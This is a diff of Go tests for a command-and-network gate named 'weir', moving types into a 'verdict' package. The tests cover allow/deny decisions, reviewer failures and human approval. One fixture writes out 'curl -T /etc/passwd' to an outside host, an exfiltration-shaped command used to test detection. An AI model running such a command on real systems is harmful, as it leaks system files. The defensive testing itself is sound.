@@ -12,6 +12,7 @@ import (
 
 	"weir/internal/cop"
 	"weir/internal/event"
+	"weir/internal/gate/verdict"
 )
 
 // reviewer is a Cop of the test.
@@ -63,7 +64,7 @@ func situations() []situation {
 	return all
 }
 
-func (s situation) request(n int) Request {
+func (s situation) request(n int) verdict.Request {
 	r := curl()
 	r.Container.ID = fmt.Sprint("c", n)
 	r.Mode, r.Held = s.mode, s.asked != "seen"
@@ -72,48 +73,48 @@ func (s situation) request(n int) Request {
 	r.Process.Argv, r.Process.Exe = argv, &event.File{Path: "/usr/bin/" + argv[0], Device: 8, Inode: 42}
 	switch s.asked {
 	case "seen", "held":
-		r.Ask = Run
+		r.Ask = verdict.Run
 	case "command":
-		r.Ask, r.Command, r.Held = Command, strings.Join(argv, " "), false
+		r.Ask, r.Command, r.Held = verdict.Command, strings.Join(argv, " "), false
 	}
 	return r
 }
 
 // want is the specification in words of its own: G4 to G9, G24, G25 and the modes.
-func (s situation) want() (Decision, Reason) {
-	person := func() (Decision, Reason) {
+func (s situation) want() (verdict.Decision, verdict.Reason) {
+	person := func() (verdict.Decision, verdict.Reason) {
 		switch s.person {
 		case "allows":
-			return Allow, Approved
+			return verdict.Allow, verdict.Approved
 		case "denies":
-			return Deny, Denied
+			return verdict.Deny, verdict.Denied
 		}
-		return Deny, NoApprover
+		return verdict.Deny, verdict.NoApprover
 	}
 	switch {
 	case s.mode == "seal" && s.asked == "connect":
-		return Deny, Sealed
+		return verdict.Deny, verdict.Sealed
 	case s.bits == 0:
-		return Allow, Untainted
+		return verdict.Allow, verdict.Untainted
 	case s.mode == "observe":
-		return Allow, Observe
+		return verdict.Allow, verdict.Observe
 	case s.class == "local" && s.asked != "connect":
-		return Allow, LocalRun
+		return verdict.Allow, verdict.LocalRun
 	case s.asked == "seen":
-		return Allow, SealedRun
+		return verdict.Allow, verdict.SealedRun
 	case s.class == "network" && s.bits == 2:
 		return person() // G7
 	case s.reviewer == "passes":
-		return Allow, Passed // G7, G8
+		return verdict.Allow, verdict.Passed // G7, G8
 	case s.reviewer == "flags" && s.bits == 1:
-		return Deny, Flagged // G7, G8
+		return verdict.Deny, verdict.Flagged // G7, G8
 	}
 	return person() // G8: flagged with both; G9: a review that failed
 }
 
 // judged has every situation judged, each in a container of its own.
-func judged(t *testing.T) map[situation]Verdict {
-	all := map[situation]Verdict{}
+func judged(t *testing.T) map[situation]verdict.Verdict {
+	all := map[situation]verdict.Verdict{}
 	bubble(t, func(r *rig) {
 		for i, s := range situations() {
 			r.Configure(reviewers[s.reviewer], s.person != "nobody", 0, 0)
@@ -178,7 +179,7 @@ func TestNothingAddedAllows(t *testing.T) {
 		}
 		for _, w := range worse {
 			compared++
-			if got := verdicts[w]; v.Decision == Deny && got.Decision == Allow && got.Reason != Approved {
+			if got := verdicts[w]; v.Decision == verdict.Deny && got.Decision == verdict.Allow && got.Reason != verdict.Approved {
 				t.Errorf("%+v is denied, %+v is allowed", s, w)
 			}
 		}
@@ -190,11 +191,11 @@ func TestNothingAddedAllows(t *testing.T) {
 
 // G9: each failure has a row, a reason code, a counter, and what it says happens.
 func TestFailures(t *testing.T) {
-	one := func(change ...func(*Request)) func(*rig) *call {
+	one := func(change ...func(*verdict.Request)) func(*rig) *call {
 		return func(r *rig) *call { return r.ask(curl(change...)) }
 	}
 	text := func(s string) func(*rig) *call {
-		return one(func(r *Request) { r.Ask, r.Held, r.Command = Command, false, s })
+		return one(func(r *verdict.Request) { r.Ask, r.Held, r.Command = verdict.Command, false, s })
 	}
 	review := func(code cop.Code) func(*rig) *call {
 		return func(r *rig) *call {
@@ -202,26 +203,28 @@ func TestFailures(t *testing.T) {
 			return r.ask(curl())
 		}
 	}
-	tests := map[Reason]func(*rig) *call{
-		Unparsable:     text("echo 'not closed"),
-		TextLimit:      text(strings.Repeat("(", 3000) + "ls" + strings.Repeat(")", 3000)),
-		ArgvLimit:      one(func(r *Request) { r.Process.Truncated = true }),
-		CopTimeout:     review(cop.Timeout),
-		CopTransport:   review(cop.Transport),
-		CopRateLimited: review(cop.RateLimited),
-		CopServer:      review(cop.Server),
-		CopRefused:     review(cop.Refused),
-		CopMalformed:   review(cop.Malformed),
-		CopTooLarge:    review(cop.TooLarge),
-		CopQueueFull:   review(cop.QueueFull),
-		CopClosed:      review(cop.Closed),
-		CopCancelled:   review(cop.Cancelled),
-		CopFailed:      review(cop.Failed),
-		CopNone:        one(),
-		Differs: func(r *rig) *call {
+	tests := map[verdict.Reason]func(*rig) *call{
+		verdict.Unparsable:     text("echo 'not closed"),
+		verdict.TextLimit:      text(strings.Repeat("(", 3000) + "ls" + strings.Repeat(")", 3000)),
+		verdict.ArgvLimit:      one(func(r *verdict.Request) { r.Process.Truncated = true }),
+		verdict.CopTimeout:     review(cop.Timeout),
+		verdict.CopTransport:   review(cop.Transport),
+		verdict.CopRateLimited: review(cop.RateLimited),
+		verdict.CopServer:      review(cop.Server),
+		verdict.CopRefused:     review(cop.Refused),
+		verdict.CopMalformed:   review(cop.Malformed),
+		verdict.CopTooLarge:    review(cop.TooLarge),
+		verdict.CopQueueFull:   review(cop.QueueFull),
+		verdict.CopClosed:      review(cop.Closed),
+		verdict.CopCancelled:   review(cop.Cancelled),
+		verdict.CopFailed:      review(cop.Failed),
+		verdict.CopNone:        one(),
+		verdict.Differs: func(r *rig) *call {
 			r.Configure(opinion(false), r.desk.HasApprover(), 0, 0)
 			approvedRun(r)
-			return r.ask(curl(below, func(r *Request) { r.Process.Argv = []string{"curl", "-T", "/etc/passwd", "https://example.org"} }))
+			return r.ask(curl(below, func(r *verdict.Request) {
+				r.Process.Argv = []string{"curl", "-T", "/etc/passwd", "https://example.org"}
+			}))
 		},
 	}
 	for _, f := range Failures() {
@@ -238,15 +241,15 @@ func TestFailures(t *testing.T) {
 				c.blocks()
 				r.wantCount(f.Reason, 1)
 				q := r.Pending()[0]
-				if f.Reason != CopNone && q.Note == "" {
+				if f.Reason != verdict.CopNone && q.Note == "" {
 					t.Error("the person is not told why they are asked")
 				}
 				r.answer(q.ID, false)
-				c.gives(Deny, Denied)
+				c.gives(verdict.Deny, verdict.Denied)
 			})
 			bubble(t, func(r *rig) {
 				r.Configure(nil, false, 0, 0)
-				provoke(r).gives(Deny, NoApprover)
+				provoke(r).gives(verdict.Deny, verdict.NoApprover)
 				r.wantCount(f.Reason, 1)
 				r.none()
 			})
@@ -268,15 +271,17 @@ func TestCase(t *testing.T) {
 			got = c
 			return cop.Opinion{Reason: "fine"}, nil
 		}), true, 0, 0)
-		r.ask(curl(func(r *Request) {
+		r.ask(curl(func(r *verdict.Request) {
 			r.Process.Ancestry = []event.Ancestor{{PID: 9, Comm: "bash", Argv: []string{"bash", "-c", "x"}, Inside: true}, {PID: 1, Comm: "init"}}
 			r.Policy = "p1"
-		})).gives(Allow, Passed)
+		})).gives(verdict.Allow, verdict.Passed)
 		if got.Destination.Address.String() != "203.0.113.9" || got.Destination.Port != 443 || got.Argv[0] != "curl" || got.Command != "" ||
 			!got.Taint.Corruption || got.Taint.Secret || len(got.Ancestry) != 1 || got.Ancestry[0].Argv[2] != "x" || got.Policy != "p1" || len(got.Judged.Facts.Programs) == 0 {
 			t.Errorf("shown %+v", got)
 		}
-		r.ask(curl(func(r *Request) { r.Ask, r.Held, r.Command, r.Dir = Command, false, "wget x.example", "/w" })).gives(Allow, Passed)
+		r.ask(curl(func(r *verdict.Request) {
+			r.Ask, r.Held, r.Command, r.Dir = verdict.Command, false, "wget x.example", "/w"
+		})).gives(verdict.Allow, verdict.Passed)
 		if got.Command != "wget x.example" || got.Argv != nil || got.Dir != "/w" || got.Destination.Port != 0 {
 			t.Errorf("shown %+v", got)
 		}
